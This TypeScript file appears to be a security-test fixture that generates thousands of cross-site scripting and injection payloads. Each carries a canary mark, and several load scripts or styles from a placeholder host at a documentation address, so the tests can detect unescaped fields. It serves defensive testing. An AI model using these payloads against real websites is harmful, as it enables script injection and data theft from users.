/**
 * Texts that run, load or navigate where somebody takes them for markup, a style, a link or a script. `MARK` becomes the name of the
 * field and the number of the text, so that what a page shows can be counted; `HOST` is a machine that must never hear of it.
 */
const FORMS: readonly string[] = [
  '<script>window.owned="MARK"</script>',
  '<script src="http://HOST/MARK.js"></script>',
  '<img src=x onerror="window.owned=\'MARK\'">',
  '<img src="http://HOST/MARK.png">',
  '"><svg onload="window.owned=\'MARK\'"><image href="http://HOST/MARK"/></svg>',
  '\' autofocus tabindex=1 onfocus="window.owned=\'MARK\'" x=\'',
  '" onmouseover="window.owned=\'MARK\'" style="position:fixed;inset:0" x="',
  '</style><style>@import "http://HOST/MARK.css";*{background:url(http://HOST/MARK)}</style>',
  '</title></textarea></script><script>window.owned="MARK"</script>',
  '<iframe srcdoc="<script>parent.owned=\'MARK\'</script>" src="http://HOST/MARK"></iframe>',
  '<object data="http://HOST/MARK"></object><embed src="http://HOST/MARK">',
  '<meta http-equiv="refresh" content="0;url=http://HOST/MARK"><base href="http://HOST/">',
  '<link rel=stylesheet href="http://HOST/MARK"><link rel=prefetch href="http://HOST/MARK"><link rel=dns-prefetch href="//MARK.HOST">',
  '<form action="http://HOST/MARK"><input name=MARK autofocus onfocus="this.form.submit()"></form>',
  '<a href="javascript:window.owned=\'MARK\'" target=_blank ping="http://HOST/MARK">MARK</a>',
  'javascript:window.owned="MARK"//',
  'data:text/html,<script>window.owned="MARK"</script>',
  '<details open ontoggle="window.owned=\'MARK\'"><summary>MARK</summary></details>',
  '<video poster="http://HOST/MARK" src="http://HOST/MARK" onloadstart="window.owned=\'MARK\'" autoplay></video>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.owned=\'MARK\'&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=window.owned=\'MARK\'>">',
  ']]><![CDATA[<script>window.owned="MARK"</script>',
  '<svg><script>window.owned="MARK"</script><animate onbegin="window.owned=\'MARK\'" attributeName=x dur=1s></svg>',
  '</text></svg><script>window.owned="MARK"</script>',
  '{{constructor.constructor("window.owned=\'MARK\'")()}}',
  '${window.owned="MARK"}',
  '`-window.owned="MARK"-`',
  '"-(window.owned="MARK")-"',
  "'-(window.owned='MARK')-'",
  '");window.owned="MARK";("',
  '[MARK](javascript:window.owned="MARK") ![MARK](http://HOST/MARK)',
  '&lt;script&gt;window.owned="MARK"&lt;/script&gt;',
  '&#60;img src=x onerror=window.owned="MARK"&#62;',
  '\\u003cscript\\u003ewindow.owned="MARK"\\u003c/script\\u003e',
  '%3Cscript%3Ewindow.owned=%22MARK%22%3C/script%3E',
  '<ScRiPt/x>window.owned="MARK"</sCrIpT >',
  '<script\t\n>window.owned="MARK"</script\n>',
  '<<script>script>window.owned="MARK"<</script>/script>',
  '<x onclick="window.owned=\'MARK\'" id=root class=dialog>MARK',
  '--><script>window.owned="MARK"</script><!--',
  '\\22 }@import url(http://HOST/MARK);{',
  'expression(window.owned="MARK");background:url(//HOST/MARK)',
  '<template shadowrootmode=open><script>window.owned="MARK"</script></template>',
  '<dialog open><button onclick="window.owned=\'MARK\'">MARK</button></dialog>',
  '=HYPERLINK("http://HOST/MARK","MARK")',
  '\u202e<img src=x onerror="window.owned=\'MARK\'">\u202c',
  '＜script＞window.owned="MARK"＜/script＞',
  'http://HOST/MARK',
  '//HOST/MARK',
  'spoor://app/../MARK',
]; // prettier-ignore

/** Handlers and elements that carry one, for the longer list. */
const HANDLERS = ['onload', 'onerror', 'onclick', 'onfocus', 'onmouseover', 'onanimationstart', 'onpointerenter', 'ontoggle', 'onbegin', 'onpageshow', 'onscroll', 'onwheel', 'oncopy', 'onpaste', 'ontransitionend', 'onended'] as const; // prettier-ignore
const ELEMENTS = ['img src=x', 'svg', 'body', 'input autofocus', 'video src=x', 'audio src=x', 'details open', 'marquee', 'object data=x', 'iframe', 'select autofocus', 'style', 'x style=animation-name:a', 'image', 'math'] as const; // prettier-ignore
const ENDS = ['', '">', "'>", '</title>', '</style>', '</script>', '</textarea>', '-->', ']]>', '</svg>', '<!--', '}}', '`'] as const;

/** Somewhere that no machine answers from (RFC 5737). */
const HOST = '198.51.100.7';

/** All forms, the short list first. Shape: about 3,000. */
export const VECTORS: readonly string[] = [
  ...FORMS,
  ...HANDLERS.flatMap((handler) => ELEMENTS.flatMap((element) => ENDS.map((end) => `${end}<${element} ${handler}="window.owned='MARK'">`))),
];

/** The text with a number for a field: `q12f-header-name-q`, say, is in it, and nowhere else. */
export function vectorFor(field: string, number: number): string {
  const form = VECTORS[number % VECTORS.length] ?? '';
  return form.replaceAll('MARK', markOf(field, number)).replaceAll('HOST', HOST);
}

const markOf = (field: string, number: number): string => `q${String(number)}f-${field}-q`;

/** Marks in a text, each once: which field with which number is shown there. */
export const marksIn = (text: string): readonly string[] => [...new Set(text.match(/q\d+f-[a-z-]+-q/g) ?? [])];

/** The fields of the marks in a text, each once. */
export const fieldsIn = (text: string): ReadonlySet<string> => new Set(marksIn(text).map((mark) => mark.replace(/^q\d+f-|-q$/g, '')));
